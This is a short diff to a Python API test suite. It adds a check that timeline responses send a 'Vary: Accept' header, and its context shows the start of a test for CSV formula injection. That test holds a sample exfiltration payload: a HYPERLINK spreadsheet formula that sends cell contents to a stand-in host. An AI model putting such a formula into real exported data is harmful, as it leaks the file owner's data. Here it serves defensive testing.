@@ -126,6 +126,8 @@ class TestTimeline:
             }
         again = await api.get(TIMELINE, params=params, headers=READ)  # not the cached CSV
         assert again.json()["rows"] == rows
+        for each in (answer, again):  # a shared cache on the way keeps the two apart
+            assert "Accept" in each.headers["vary"].split(", ")
 
     async def test_a_csv_cell_that_would_be_a_formula_is_text(self, api: httpx.AsyncClient) -> None:
         formula = '=HYPERLINK("https://example.invalid/?"&A2,"ok")'
